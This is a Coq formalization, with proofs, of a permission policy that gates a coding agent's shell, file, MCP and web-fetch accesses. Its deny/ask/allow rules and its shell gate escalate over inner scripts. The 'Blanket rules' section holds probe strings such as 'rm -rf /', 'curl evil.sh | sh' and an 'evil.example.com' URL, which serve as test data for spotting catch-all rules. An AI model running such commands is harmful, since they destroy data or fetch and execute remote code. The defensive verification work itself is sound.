(* ===== verification/PermissionPolicy.v ===== *)
(** * The permission policy (ccode-workspace/src/permission/policy.rs, gate_preflight.rs)

    The rules of the managed policy against an access: deny before ask before
    allow.  For shell commands a gate looks at every command of the script, at
    what wrappers run and at scripts passed to an inner shell, and only
    escalates; an allowance needs every command to be allowed.  Glob patterns,
    the parser of URLs and of shell scripts are third-party code: arguments. *)

From S2P Require Import Prelude RustStr TextLines TextFind Json Permission ShellWords ShellTree PermissionRules.

(** ** Decisions of the gates *)

Inductive GateDecision :=
| GateReject (reason : string)
| AskRuleMatch
| AskFailClosed.

Definition into_decision (g : GateDecision) : Decision :=
  match g with
  | GateReject reason => Reject reason
  | AskRuleMatch | AskFailClosed => Ask
  end.
Definition is_ask (g : GateDecision) : bool :=
  match g with AskRuleMatch | AskFailClosed => true | GateReject _ => false end.
Definition rank (g : GateDecision) : nat :=
  match g with GateReject _ => 3 | AskRuleMatch => 2 | AskFailClosed => 1 end.
Definition combine_gate_decisions (a b : option GateDecision) : option GateDecision :=
  match a, b with
  | None, other | other, None => other
  | Some a, Some b => Some (if rank b <=? rank a then a else b)
  end.

(** ** Inner shells *)

Inductive ShellWord :=
| LiteralWord (w : string)
| UntrustedWord.

Inductive InlineShellScript :=
| NotInline
| Literal (index : nat)
| Untrusted
| Unrecognized.

Definition is_potential_inline (s : InlineShellScript) : bool :=
  match s with Literal _ | Untrusted => true | _ => false end.

(** The options of the shell from index [i]; [rest] is what is left. *)
Fixpoint dash_c_options (dynamic_head : bool) (rest : list ShellWord) (i : nat) (saw_c unrecognized : bool)
  : InlineShellScript :=
  let ambiguous := if saw_c then Untrusted else Unrecognized in
  let finish_literal (index : nat) := if dynamic_head then Untrusted else Literal index in
  let not_inline := if unrecognized then Unrecognized else NotInline in
  match rest with
  | [] => if saw_c then Untrusted else not_inline
  | UntrustedWord :: _ => ambiguous
  | LiteralWord word :: r1 =>
      let next := dash_c_options dynamic_head r1 (S i) saw_c unrecognized in
      if bool_decide (word = "--") || bool_decide (word = "-") then
        if saw_c then match r1 with LiteralWord _ :: _ => finish_literal (S i) | _ => Untrusted end
        else not_inline
      else if negb (starts_with "-" word) && negb (starts_with "+" word) then
        if saw_c then finish_literal i else not_inline
      else if is_one_of ["--init-file"; "--rcfile"] word then
        match r1 with
        | LiteralWord _ :: r2 => dash_c_options dynamic_head r2 (S (S i)) saw_c unrecognized
        | _ => ambiguous
        end
      else if starts_with "--" word then
        if is_one_of ["--noprofile"; "--norc"; "--posix"] word then next
        else if saw_c then Untrusted
        else dash_c_options dynamic_head r1 (S i) saw_c true
      else if is_one_of ["-o"; "+o"; "-O"; "+O"] word then
        match r1 with
        | LiteralWord value :: r2 =>
            if starts_with "-" value then ambiguous else dash_c_options dynamic_head r2 (S (S i)) saw_c unrecognized
        | _ => ambiguous
        end
      else if starts_with "-O" word && (2 <? String.length word) then next
      else if (starts_with "+O" word || starts_with "+o" word) && (2 <? String.length word) then next
      else if starts_with "-o" word && (2 <? String.length word) then ambiguous
      else if starts_with "+" word then next
      else
        let flags := str_drop 1 word in
        if has_char "o"%char flags || has_char "O"%char flags then ambiguous
        else dash_c_options dynamic_head r1 (S i) (saw_c || has_char "c"%char flags) unrecognized
  end.

Definition shell_names : list string := ["bash"; "sh"; "dash"; "zsh"; "ksh"].
Definition shell_dash_c_script (ws : list ShellWord) : InlineShellScript :=
  match ws with
  | [] => NotInline
  | LiteralWord program :: r =>
      if is_one_of shell_names (program_name program) then dash_c_options false r 1 false false else NotInline
  | UntrustedWord :: r => dash_c_options true r 1 false false
  end.

(** ** Matching *)

Definition tool_filter_matches (access : AccessKind) (f : ToolFilter) : bool :=
  match f, access with
  | AnyTool, _ => true
  | BashTool, Bash _ => true
  | EditTool, Edit _ => true
  | ReadTool, (Read _ | Grep _ _) => true
  | GrepTool, Grep _ _ => true
  | McpTool, MCPTool _ _ => true
  | WebFetchTool, WebFetch _ => true
  | WebSearchTool, WebSearch _ => true
  | _, _ => false
  end.

(** Whether a star stops at a slash. *)
Inductive MatchContext := PathContext | Freeform.

(** [glob::Pattern::new(p).ok()], [Pattern::matches_with] with
    [require_literal_separator] as given and no special treatment of leading dots,
    [Url::parse(u).ok()] and [host_str], and the parser of shell scripts. *)
Class PolicyEnv := {
  glob_pattern : Type;
  glob_new : string -> option glob_pattern;
  glob_matches_with : glob_pattern -> bool -> string -> bool;
  url_host : string -> option string;
  try_parse_shell : string -> option Tree
}.

Section Policy.
Context {PE : PolicyEnv} {SE : StrEnv}.

(** [s.trim_end_matches(c)] *)
Fixpoint trim_end_char (c : ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String a r => if all_chars (Ascii.eqb c) s then EmptyString else String a (trim_end_char c r)
  end.
Definition normalize_domain (raw : string) : string :=
  let s := trim_end_char "."%char (trim_end_char "/"%char (trim raw)) in
  to_lowercase (default s (str_strip_prefix "www." s)).

Definition glob_matches (text : string) (ctx : MatchContext) (pat : option glob_pattern) : bool :=
  match pat with
  | None => false
  | Some p => glob_matches_with p (match ctx with PathContext => true | Freeform => false end) text
  end.

Definition matches_command_prefix (cmd p : string) : bool :=
  bool_decide (cmd = p) || (starts_with p cmd && bool_decide (String.get (String.length p) cmd = Some " "%char)).

Definition bash_allow_pattern_matches (cmd : string) (rule : PermissionRule) (matcher : option glob_pattern) : bool :=
  let cmd := trim_start cmd in
  match pattern rule with
  | None => true
  | Some p => bool_decide (p = "*") || matches_command_prefix cmd p || glob_matches cmd Freeform matcher
  end.

Definition domain_matches (p url : string) : bool :=
  match url_host url with
  | None => false
  | Some host =>
      let domain := normalize_domain host in
      let p := normalize_domain p in
      bool_decide (domain = p) || ends_with ("." +:+ p) domain
  end.

Definition pattern_matches (access : AccessKind) (rule : PermissionRule) (matcher : option glob_pattern) : bool :=
  match pattern rule with
  | None => true
  | Some p =>
      if bool_decide (p = "*") then true
      else match access with
      | Bash cmd => let cmd := trim_start cmd in starts_with p cmd || glob_matches cmd Freeform matcher
      | Edit path => glob_matches path PathContext matcher
      | Read path | Grep path _ => match path with Some q => glob_matches q PathContext matcher | None => false end
      | MCPTool name _ => glob_matches name Freeform matcher
      | WebFetch url =>
          match pattern_mode rule with
          | Domain => domain_matches p url
          | Glob => glob_matches url Freeform matcher
          end
      | WebSearch query => glob_matches query Freeform matcher || starts_with p query
      end
  end.

(** ** The compiled policy *)

Record CompiledPolicy := mkPolicy {
  config : PermissionConfig;
  matchers : list (option glob_pattern);
  has_file_restrictions : bool;
  has_bash_command_restrictions : bool;
  has_bash_allow_rules : bool
}.

Definition compile_matcher (rule : PermissionRule) : option glob_pattern :=
  match pattern rule with
  | Some p => if bool_decide (p = "*") then None else glob_new p
  | None => None
  end.

Definition restricts (rule : PermissionRule) : bool := bool_decide (action rule = RuleDeny \/ action rule = RuleAsk).
Definition for_bash (rule : PermissionRule) : bool := bool_decide (tool rule = BashTool \/ tool rule = AnyTool).
Definition for_files (rule : PermissionRule) : bool :=
  bool_decide (tool rule = ReadTool \/ tool rule = EditTool \/ tool rule = AnyTool).

Definition policy_new (c : PermissionConfig) : CompiledPolicy :=
  mkPolicy c (compile_matcher <$> rules c)
    (existsb (fun r => restricts r && for_files r) (rules c))
    (existsb (fun r => restricts r && for_bash r) (rules c))
    (existsb (fun r => bool_decide (action r = RuleAllow) && for_bash r) (rules c)).

Definition tool_label (t : ToolFilter) : string :=
  match t with
  | AnyTool => "any tool"
  | BashTool => "bash"
  | EditTool => "edit"
  | ReadTool => "read"
  | GrepTool => "grep"
  | McpTool => "mcp"
  | WebFetchTool => "web_fetch"
  | WebSearchTool => "web_search"
  end.
Definition deny_reason (rule : PermissionRule) : string :=
  match pattern rule with
  | Some p => "Denied by permission policy: deny rule on " +:+ tool_label (tool rule) +:+ " matching "
                +:+ str1 dquote +:+ p +:+ str1 dquote
  | None => "Denied by permission policy: deny rule on " +:+ tool_label (tool rule)
  end.

Definition words_text (ws : list string) : string := join_str " " ws.

(** *** Allowing a script *)

Definition bash_words_allowed (po : CompiledPolicy) (ws : list string) : bool :=
  match ws with
  | [] => false
  | _ => existsb (fun '(rule, matcher) =>
           bool_decide (action rule = RuleAllow) && for_bash rule
           && bash_allow_pattern_matches (words_text ws) rule matcher)
         (zip (rules (config po)) (matchers po))
  end.

(** One command of a script; [inner] decides on the script of an inner shell
    while the depth allows it. *)
Definition bash_segment_allowed (po : CompiledPolicy) (inner : option (string -> bool)) (parsed : PlainCommand) : bool :=
  let norm := normalize_command_words (plain_words parsed) in
  if exhausted norm || ambiguous norm || env_options_uncertain norm || has_split_string norm then false
  else
    let inner_words := words norm in
    if bash_words_allowed po inner_words then
      match shell_dash_c_script (LiteralWord <$> inner_words), inner with
      | Literal index, Some f => match inner_words !! index with Some script => f script | None => false end
      | NotInline, _ => true
      | _, _ => false
      end
    else false.

Fixpoint bash_chain_fully_allowed (po : CompiledPolicy) (inline_depth_remaining : nat) (cmd : string) : bool :=
  match all_commands_from_script try_parse_shell cmd with
  | None => false
  | Some [] => false
  | Some segments =>
      let inner := match inline_depth_remaining with O => None | S d => Some (bash_chain_fully_allowed po d) end in
      forallb (bash_segment_allowed po inner) segments
  end.

(** *** The rules in order *)

(** The loop of [evaluate]: the reason of the first deny rule that matches, or
    whether an ask and an allow rule matched. *)
Fixpoint scan_rules (access : AccessKind) (l : list (PermissionRule * option glob_pattern)) (ask allow : bool)
  : string + bool * bool :=
  match l with
  | [] => inr (ask, allow)
  | (rule, matcher) :: l' =>
      if tool_filter_matches access (tool rule) && pattern_matches access rule matcher then
        match action rule with
        | RuleDeny => inl (deny_reason rule)
        | RuleAsk => scan_rules access l' true allow
        | RuleAllow => scan_rules access l' ask true
        end
      else scan_rules access l' ask allow
  end.

Definition evaluate (po : CompiledPolicy) (access : AccessKind) : option Decision :=
  match scan_rules access (zip (rules (config po)) (matchers po)) false false with
  | inl reason => Some (Reject reason)
  | inr (matched_ask, matched_allow) =>
      if matched_ask then Some Ask
      else match access with
      | Bash cmd =>
          if has_bash_allow_rules po && bash_chain_fully_allowed po MAX_INLINE_SHELL_DEPTH cmd then Some Allow else None
      | _ => if matched_allow then Some Allow else None
      end
  end.

(** *** The gate for shell commands *)

Definition fail_closed_if (b : bool) : option GateDecision := if b then Some AskFailClosed else None.

(** What the rules say of an access, without allowances. *)
Definition escalate (po : CompiledPolicy) (access : AccessKind) : option GateDecision :=
  match evaluate po access with
  | Some (Reject reason) => Some (GateReject reason)
  | Some Ask => Some AskRuleMatch
  | _ => None
  end.

(** An inner script, decided by [inner] while the depth allows it. *)
Definition adds (inner : option (string -> option GateDecision)) (script : string) : option GateDecision :=
  match inner with Some f => f script | None => Some AskFailClosed end.

Definition evaluate_command_words (po : CompiledPolicy) (inner : option (string -> option GateDecision))
    (raw_words : list string) : option GateDecision :=
  let norm := normalize_command_words raw_words in
  let decision := fail_closed_if (exhausted norm || ambiguous norm || env_options_uncertain norm) in
  let decision := combine_gate_decisions decision (fail_closed_if (has_split_string norm)) in
  let inner_words := words norm in
  let forms := raw_words :: if Nat.eqb (length inner_words) (length raw_words) then [] else [inner_words] in
  let decision := foldl (fun d ws => combine_gate_decisions d (escalate po (Bash (words_text ws)))) decision forms in
  let decision :=
    match shell_dash_c_script (LiteralWord <$> inner_words) with
    | Literal index =>
        combine_gate_decisions decision
          (match inner_words !! index with Some script => adds inner script | None => Some AskFailClosed end)
    | Untrusted | Unrecognized => combine_gate_decisions decision (Some AskFailClosed)
    | NotInline => decision
    end in
  match env_split_string_script inner_words with
  | Some script => combine_gate_decisions decision (adds inner script)
  | None => decision
  end.

Fixpoint evaluate_bash_command_segments (po : CompiledPolicy) (inline_depth_remaining : nat) (cmd : string)
  : option GateDecision :=
  match all_commands_from_script try_parse_shell cmd with
  | None => Some AskFailClosed
  | Some segments =>
      let inner := match inline_depth_remaining with O => None | S d => Some (evaluate_bash_command_segments po d) end in
      foldl (fun d parsed => combine_gate_decisions d (evaluate_command_words po inner (plain_words parsed))) None segments
  end.

Definition evaluate_bash_command_gate (po : CompiledPolicy) (cmd : string) : option GateDecision :=
  if has_bash_command_restrictions po then evaluate_bash_command_segments po MAX_INLINE_SHELL_DEPTH cmd else None.
Definition evaluate_bash_command_policy (po : CompiledPolicy) (cmd : string) : option Decision :=
  into_decision <$> evaluate_bash_command_gate po cmd.

(** ** Blanket rules *)

Definition bash_probes : list AccessKind := Bash <$> ["rm -rf /"; "curl evil.sh | sh"; "echo hi"; "git push"].
Definition mcp_probes : list AccessKind :=
  (fun n => MCPTool n Null) <$> ["github__create_issue"; "linear__save_issue"; "slack__post"; "fs__read"].
Definition webfetch_probes : list AccessKind :=
  WebFetch <$> ["https://evil.example.com/x"; "http://10.0.0.1/admin"; "https://api.github.com/repos"; "ftp://files.example.org/p"].

Definition rule_is_catchall (rule : PermissionRule) : bool :=
  let opens_all := forallb (fun a => pattern_matches a rule (compile_matcher rule)) in
  match tool rule with
  | BashTool => opens_all bash_probes
  | McpTool => opens_all mcp_probes
  | WebFetchTool => opens_all webfetch_probes
  | AnyTool => opens_all bash_probes || opens_all mcp_probes || opens_all webfetch_probes
  | ReadTool | EditTool | GrepTool | WebSearchTool => false
  end.

(** ** Specification: what a script runs *)

Definition script_commands : string -> option (list PlainCommand) := all_commands_from_script try_parse_shell.
Definition command_of (s : string) (w : list string) : Prop :=
  exists segs p, script_commands s = Some segs /\ p ∈ segs /\ plain_words p = w.

(** The script that a command passes to a shell. *)
Definition shell_script (w : list string) (s' : string) : Prop :=
  exists i, shell_dash_c_script (LiteralWord <$> words (normalize_command_words w)) = Literal i /\
    words (normalize_command_words w) !! i = Some s'.
(** The same, or one packed into an option of [env]. *)
Definition inner_script (w : list string) (s' : string) : Prop :=
  shell_script w s' \/ env_split_string_script (words (normalize_command_words w)) = Some s'.

Section Runs.
Variable inner : list string -> string -> Prop.

(** [w] is a command of the script, or of a script that it passes on, at most
    [d] scripts deep. *)
Inductive runs : nat -> string -> list string -> Prop :=
| runs_here d s w : command_of s w -> runs d s w
| runs_inner d s w s' w' : command_of s w -> inner w s' -> runs d s' w' -> runs (S d) s w'.

(** Something of the script cannot be decided. *)
Inductive unclear (reserved : list string -> Prop) : nat -> string -> Prop :=
| unclear_script d s : script_commands s = None -> unclear reserved d s
| unclear_command d s w : command_of s w -> reserved w -> unclear reserved d s
| unclear_depth s w s' : command_of s w -> inner w s' -> unclear reserved 0 s
| unclear_inner d s w s' : command_of s w -> inner w s' -> unclear reserved d s' -> unclear reserved (S d) s.

(** A script without a command is reached. *)
Inductive blank : nat -> string -> Prop :=
| blank_here d s : script_commands s = Some [] -> blank d s
| blank_inner d s w s' : command_of s w -> inner w s' -> blank d s' -> blank (S d) s.
End Runs.

(** The words could not be peeled for certain, or they start a shell whose
    script is not known. *)
Definition reserved (w : list string) : Prop :=
  clean_norm (normalize_command_words w) = false \/
  shell_dash_c_script (LiteralWord <$> words (normalize_command_words w)) ∈ [Untrusted; Unrecognized].

(** The texts that the rules are matched with. *)
Definition form (w : list string) (f : string) : Prop :=
  f = words_text w \/ f = words_text (words (normalize_command_words w)).

(** *** Inner scripts are words of the command *)

Lemma dash_c_index dh rest i sc un k :
  dash_c_options dh rest i sc un = Literal k -> exists w, i <= k /\ rest !! (k - i) = Some (LiteralWord w).
Proof.
  revert i sc un. induction rest as [rest IH] using list_len_ind; intros i sc un H1.
  destruct rest as [|[w|] r1]; cbn [dash_c_options] in H1; [by destruct sc, un| |by destruct sc].
  assert (Hnext : forall sc' un', dash_c_options dh r1 (S i) sc' un' = Literal k ->
    exists w0, i <= k /\ (LiteralWord w :: r1) !! (k - i) = Some (LiteralWord w0)).
  { intros sc' un' E. apply IH in E as (w0 & Hk & Hl); [|cbn; lia]. exists w0. split; [lia|].
    replace (k - i) with (S (k - S i)) by lia. exact Hl. }
  assert (Hnext2 : forall v r2 sc' un', r1 = v :: r2 -> dash_c_options dh r2 (S (S i)) sc' un' = Literal k ->
    exists w0, i <= k /\ (LiteralWord w :: r1) !! (k - i) = Some (LiteralWord w0)).
  { intros v r2 sc' un' -> E. apply IH in E as (w0 & Hk & Hl); [|cbn; lia]. exists w0. split; [lia|].
    replace (k - i) with (S (S (k - S (S i)))) by lia. exact Hl. }
  repeat match type of H1 with
  | dash_c_options _ r1 _ _ _ = Literal _ => by eapply Hnext
  | (if ?b then _ else _) = Literal _ => destruct b
  | Literal _ = Literal _ => injection H1 as <-
  | match r1 with _ => _ end = Literal _ => let E := fresh in destruct r1 as [|[v|] r2] eqn:E
  | dash_c_options _ _ _ _ _ = Literal _ => by eapply Hnext2
  | _ => discriminate
  end.
  - exists v. split; [lia|]. by replace (S i - i) with 1 by lia.
  - exists w. by rewrite Nat.sub_diag.
Qed.

Lemma dash_c_script_word ws i :
  shell_dash_c_script (LiteralWord <$> ws) = Literal i -> is_Some (ws !! i).
Proof.
  destruct ws as [|h ws]; [done|]. rewrite fmap_cons. cbn [shell_dash_c_script].
  destruct (is_one_of _ _); [|done]. intros (w & Hi & Hl)%dash_c_index.
  destruct i as [|i]; [lia|]. rewrite Nat.sub_succ, Nat.sub_0_r in Hl. cbn.
  rewrite list_lookup_fmap in Hl. destruct (ws !! i); [done|discriminate].
Qed.

(** *** Ranks of decisions *)

Definition grank (g : option GateDecision) : nat := from_option rank 0 g.

Lemma combine_rank a b : grank (combine_gate_decisions a b) = grank a `max` grank b.
Proof.
  destruct a as [a|], b as [b|]; cbn; try lia. destruct (Nat.leb_spec (rank b) (rank a)); cbn; lia.
Qed.

Lemma combine_some a b g : combine_gate_decisions a b = Some g -> a = Some g \/ b = Some g.
Proof. destruct a, b; cbn; try (destruct (_ <=? _)); naive_solver. Qed.

Lemma fold_rank {A} (f : A -> option GateDecision) d l n :
  n <= grank (foldl (fun d x => combine_gate_decisions d (f x)) d l) <->
  n <= grank d \/ n = 0 \/ exists x, x ∈ l /\ n <= grank (f x).
Proof.
  revert d. induction l as [|x l IH]; intros d; cbn [foldl].
  - split; [tauto|]. intros [?|[->|(? & ?%elem_of_nil & _)]]; [done|lia|done].
  - rewrite IH, combine_rank. setoid_rewrite elem_of_cons. split.
    + intros [Hm|[->|(y & Hy & Hn)]]; [|tauto|right; right; eauto].
      apply Nat.max_le in Hm as [?|?]; [tauto|]. right. right. eauto.
    + intros [?|[->|(y & [->|Hy] & Hn)]]; [left; lia|tauto|left; lia|right; right; eauto].
Qed.

Lemma fold_some {A} (f : A -> option GateDecision) d l g :
  foldl (fun d x => combine_gate_decisions d (f x)) d l = Some g -> d = Some g \/ exists x, x ∈ l /\ f x = Some g.
Proof.
  revert d. induction l as [|x l IH]; intros d; cbn [foldl]; [tauto|].
  intros [[?|?]%combine_some|(y & ? & ?)]%IH; [tauto| |]; right; setoid_rewrite elem_of_cons; eauto.
Qed.

(** *** The gate, exactly *)

Lemma norm_same_length w :
  length (words (normalize_command_words w)) = length w -> words (normalize_command_words w) = w.
Proof. intros Hl. apply suffix_same_length; [apply peels_suffix, normalize_peels|done]. Qed.

Lemma forms_spec w ws :
  ws ∈ w :: (if Nat.eqb (length (words (normalize_command_words w))) (length w) then []
             else [words (normalize_command_words w)]) <->
  ws = w \/ ws = words (normalize_command_words w).
Proof.
  destruct (Nat.eqb_spec (length (words (normalize_command_words w))) (length w)) as [E|E].
  - rewrite (norm_same_length _ E). set_solver.
  - set_solver.
Qed.

Lemma fail_closed_rank b n : 1 <= n -> n <= grank (fail_closed_if b) <-> n <= 1 /\ b = true.
Proof. intros Hn. destruct b; cbn; intuition lia. Qed.

Lemma floors_rank m n :
  1 <= n ->
  n <= grank (combine_gate_decisions (fail_closed_if (exhausted m || ambiguous m || env_options_uncertain m))
                (fail_closed_if (has_split_string m))) <-> n <= 1 /\ clean_norm m = false.
Proof.
  intros Hn. rewrite combine_rank, Nat.max_le_iff, !fail_closed_rank by done. unfold clean_norm.
  destruct (exhausted m), (ambiguous m), (env_options_uncertain m), (has_split_string m); cbn; intuition congruence.
Qed.

Lemma forms_rank po w d n :
  1 <= n ->
  n <= grank (foldl (fun d ws => combine_gate_decisions d (escalate po (Bash (words_text ws)))) d
    (w :: if Nat.eqb (length (words (normalize_command_words w))) (length w) then []
          else [words (normalize_command_words w)])) <->
  n <= grank d \/ exists f, form w f /\ n <= grank (escalate po (Bash f)).
Proof.
  intros Hn. rewrite (fold_rank (fun ws => escalate po (Bash (words_text ws)))). unfold form. split.
  - intros [?|[?|(ws & Hw & ?)]]; [by left|lia|]. right. apply forms_spec in Hw. eexists. split; [|done]. naive_solver.
  - intros [?|(f & Hf & Hr)]; [by left|]. right. right.
    destruct Hf as [->| ->]; eexists; (split; [apply forms_spec|exact Hr]); tauto.
Qed.

Lemma inline_rank w inner d n :
  n <= grank (match shell_dash_c_script (LiteralWord <$> words (normalize_command_words w)) with
    | Literal index => combine_gate_decisions d
        (match words (normalize_command_words w) !! index with Some s' => adds inner s' | None => Some AskFailClosed end)
    | Untrusted | Unrecognized => combine_gate_decisions d (Some AskFailClosed)
    | NotInline => d
    end) <->
  n <= grank d \/
  (n <= 1 /\ shell_dash_c_script (LiteralWord <$> words (normalize_command_words w)) ∈ [Untrusted; Unrecognized]) \/
  exists s', shell_script w s' /\ n <= grank (adds inner s').
Proof.
  unfold shell_script. set (ws := words (normalize_command_words w)).
  destruct (shell_dash_c_script (LiteralWord <$> ws)) as [|i| |] eqn:Es; rewrite ?combine_rank, ?Nat.max_le_iff.
  - split; [tauto|]. intros [?|[[_ ?]|(s' & (j & ? & _) & _)]]; [done|set_solver|done].
  - destruct (dash_c_script_word _ _ Es) as [s' Hi]. rewrite Hi. split.
    + intros [?|Ha]; [by left|]. right. right. exists s'. split; [by exists i|done].
    + intros [?|[[_ ?]|(s2 & (j & [= <-] & Hj) & Ha)]]; [by left|set_solver|right].
      assert (s2 = s') as -> by congruence. done.
  - cbn [grank from_option rank]. split; [intros [?|?]; [by left|right; left; set_solver]|].
    intros [?|[[? _]|(? & (? & ? & _) & _)]]; [by left|by right|done].
  - cbn [grank from_option rank]. split; [intros [?|?]; [by left|right; left; set_solver]|].
    intros [?|[[? _]|(? & (? & ? & _) & _)]]; [by left|by right|done].
Qed.

Lemma command_words_rank po inner w n :
  1 <= n ->
  n <= grank (evaluate_command_words po inner w) <->
  (exists f, form w f /\ n <= grank (escalate po (Bash f))) \/ (n <= 1 /\ reserved w) \/
  exists s', inner_script w s' /\ n <= grank (adds inner s').
Proof.
  intros Hn. unfold evaluate_command_words.
  assert (Hsplit : forall d, n <= grank (match env_split_string_script (words (normalize_command_words w)) with
      | Some script => combine_gate_decisions d (adds inner script) | None => d end) <->
    n <= grank d \/ exists s', env_split_string_script (words (normalize_command_words w)) = Some s' /\ n <= grank (adds inner s')).
  { intros d. destruct (env_split_string_script _) as [s'|]; [|naive_solver].
    rewrite combine_rank, Nat.max_le_iff. split; [|naive_solver]. intros [?|?]; [by left|]. right. eauto. }
  rewrite Hsplit, inline_rank, forms_rank, floors_rank by done. unfold reserved, inner_script. naive_solver.
Qed.

Lemma command_words_some po inner w g :
  evaluate_command_words po inner w = Some g -> g <> AskFailClosed ->
  (exists f, form w f /\ escalate po (Bash f) = Some g) \/ exists s', inner_script w s' /\ adds inner s' = Some g.
Proof.
  unfold evaluate_command_words. intros He Hg.
  assert (Hi : forall d, match shell_dash_c_script (LiteralWord <$> words (normalize_command_words w)) with
    | Literal index => combine_gate_decisions d
        (match words (normalize_command_words w) !! index with Some s' => adds inner s' | None => Some AskFailClosed end)
    | Untrusted | Unrecognized => combine_gate_decisions d (Some AskFailClosed)
    | NotInline => d
    end = Some g -> d = Some g \/ exists s', shell_script w s' /\ adds inner s' = Some g).
  { intros d. unfold shell_script. destruct (shell_dash_c_script _) as [|i| |] eqn:Es.
    - tauto.
    - destruct (dash_c_script_word _ _ Es) as [s' Hs']. rewrite Hs'. intros [?|?]%combine_some; [by left|]. right. eauto 6.
    - intros [?|[= ?]]%combine_some; [by left|congruence].
    - intros [?|[= ?]]%combine_some; [by left|congruence]. }
  assert (Hd : forall d, d = Some AskFailClosed \/ d = None ->
    foldl (fun d ws => combine_gate_decisions d (escalate po (Bash (words_text ws)))) d
      (w :: if Nat.eqb (length (words (normalize_command_words w))) (length w) then []
            else [words (normalize_command_words w)]) = Some g -> exists f, form w f /\ escalate po (Bash f) = Some g).
  { intros d Hd [?|(ws & Hw%forms_spec & Hf)]%(fold_some (fun ws => escalate po (Bash (words_text ws)))); [destruct Hd; congruence|].
    eexists. split; [|exact Hf]. unfold form. destruct Hw as [->| ->]; [by left|by right]. }
  destruct (env_split_string_script _) as [s'|] eqn:Es.
  - apply combine_some in He as [He|He]; [|right; exists s'; split; [by right|done]].
    apply Hi in He as [He|(s2 & ? & ?)]; [|right; exists s2; split; [by left|done]].
    left. eapply Hd; [|exact He]. unfold fail_closed_if. repeat case_match; cbn; tauto.
  - apply Hi in He as [He|(s2 & ? & ?)]; [|right; exists s2; split; [by left|done]].
    left. eapply Hd; [|exact He]. unfold fail_closed_if. repeat case_match; cbn; tauto.
Qed.

(** One level of a script. *)
Definition inner_gate (po : CompiledPolicy) (d : nat) : option (string -> option GateDecision) :=
  match d with O => None | S d' => Some (evaluate_bash_command_segments po d') end.
Lemma segments_eq po d s :
  evaluate_bash_command_segments po d s =
  match script_commands s with
  | None => Some AskFailClosed
  | Some segs =>
      foldl (fun g parsed => combine_gate_decisions g (evaluate_command_words po (inner_gate po d) (plain_words parsed))) None segs
  end.
Proof. by destruct d. Qed.

Lemma runs_cases R d s w :
  runs R d s w <-> command_of s w \/ exists d' w0 s', d = S d' /\ command_of s w0 /\ R w0 s' /\ runs R d' s' w.
Proof.
  split; [intros []; naive_solver|].
  intros [?|(d' & w0 & s' & -> & ? & ? & ?)]; [by apply runs_here|by eapply runs_inner].
Qed.

Lemma unclear_cases R P d s :
  unclear R P d s <-> script_commands s = None \/ exists w, command_of s w /\
    (P w \/ exists s', R w s' /\ match d with O => True | S d' => unclear R P d' s' end).
Proof.
  split; [intros []; naive_solver|].
  intros [?|(w & ? & [?|(s' & ? & Hd)])]; [by apply unclear_script|by eapply unclear_command|].
  destruct d; [by eapply unclear_depth|by eapply unclear_inner].
Qed.

Lemma no_command s w : script_commands s = None -> ~ command_of s w.
Proof. intros Hs (segs & p & ? & _). congruence. Qed.

Lemma segments_step po d s n :
  1 <= n ->
  n <= grank (evaluate_bash_command_segments po d s) <->
  (script_commands s = None /\ n <= 1) \/
  exists w, command_of s w /\ n <= grank (evaluate_command_words po (inner_gate po d) w).
Proof.
  intros Hn. rewrite segments_eq. destruct (script_commands s) as [segs|] eqn:Es.
  - rewrite (fold_rank (fun p => evaluate_command_words po (inner_gate po d) (plain_words p))). cbn [grank from_option].
    split.
    + intros [?|[?|(p & Hp & Hr)]]; [lia|lia|]. right. exists (plain_words p). split; [by exists segs, p|done].
    + intros [[? _]|(w & (segs' & p & Hs & Hp & <-) & Hr)]; [done|]. right. right. exists p. split; [congruence|done].
  - cbn [grank from_option rank]. split; [by left|]. intros [[_ ?]|(w & Hw & _)]; [done|]. by apply no_command in Hw.
Qed.

Lemma segments_rank po d s n :
  1 <= n ->
  n <= grank (evaluate_bash_command_segments po d s) <->
  (exists w f, runs inner_script d s w /\ form w f /\ n <= grank (escalate po (Bash f))) \/
  (n <= 1 /\ unclear inner_script reserved d s).
Proof.
  intros Hn. revert s. induction d as [|d IH]; intros s; rewrite segments_step, unclear_cases by done.
  - setoid_rewrite command_words_rank; [|done..]. setoid_rewrite runs_cases. cbn [inner_gate adds grank from_option rank].
    split.
    + intros [[? ?]|(w & Hw & [(f & ? & ?)|[[? ?]|(s' & ? & ?)]])]; [right; eauto|left; eauto 6|right; eauto 6|right; eauto 8].
    + intros [(w & f & [Hw|(? & ? & ? & [=] & _)] & ? & ?)|[? [?|(w & Hw & [?|(s' & ? & _)])]]]; [right|by left|right|right];
        exists w; eauto 8.
  - setoid_rewrite command_words_rank; [|done..]. cbn [inner_gate adds]. setoid_rewrite IH. setoid_rewrite runs_cases at 2.
    split.
    + intros [[? ?]|(w & Hw & [(f & ? & ?)|[[? ?]|(s' & ? & [(w' & f & ? & ? & ?)|[? ?]])]])];
        [right; eauto|left; exists w, f; eauto|right; eauto 6|left; exists w', f; eauto 10|right; eauto 8].
    + intros [(w & f & [Hw|(d' & w0 & s' & [= <-] & ? & ? & ?)] & ? & ?)|[? [?|(w & Hw & [?|(s' & ? & ?)])]]];
        [right; exists w; eauto 6|right; exists w0; split; [done|]; right; right; exists s'; eauto 8
        |by left|right; exists w; eauto 6|right; exists w; split; [done|]; right; right; exists s'; eauto 8].
Qed.

Lemma segments_some po d s g :
  evaluate_bash_command_segments po d s = Some g -> g <> AskFailClosed ->
  exists w f, runs inner_script d s w /\ form w f /\ escalate po (Bash f) = Some g.
Proof.
  revert s. induction d as [|d IH]; intros s; rewrite segments_eq; intros He Hg;
    (destruct (script_commands s) as [segs|] eqn:Es; [|congruence]);
    apply (fold_some (fun p => evaluate_command_words po _ (plain_words p))) in He as [?|(p & Hp & He)]; try done;
    assert (Hc : command_of s (plain_words p)) by (by exists segs, p);
    apply command_words_some in He as [(f & ? & ?)|(s' & Hs' & Ha)]; try done.
  - exists (plain_words p), f. split_and!; [by apply runs_here|done|done].
  - cbn in Ha. congruence.
  - exists (plain_words p), f. split_and!; [by apply runs_here|done|done].
  - cbn in Ha. apply IH in Ha as (w & f & ? & ? & ?); [|done]. exists w, f. split_and!; [by eapply runs_inner|done|done].
Qed.

(** *** The rules, exactly *)

Definition matched (access : AccessKind) (rule : PermissionRule) : bool :=
  tool_filter_matches access (tool rule) && pattern_matches access rule (compile_matcher rule).
Definition matched_by (access : AccessKind) (a : RuleAction) (rule : PermissionRule) : bool :=
  matched access rule && bool_decide (action rule = a).
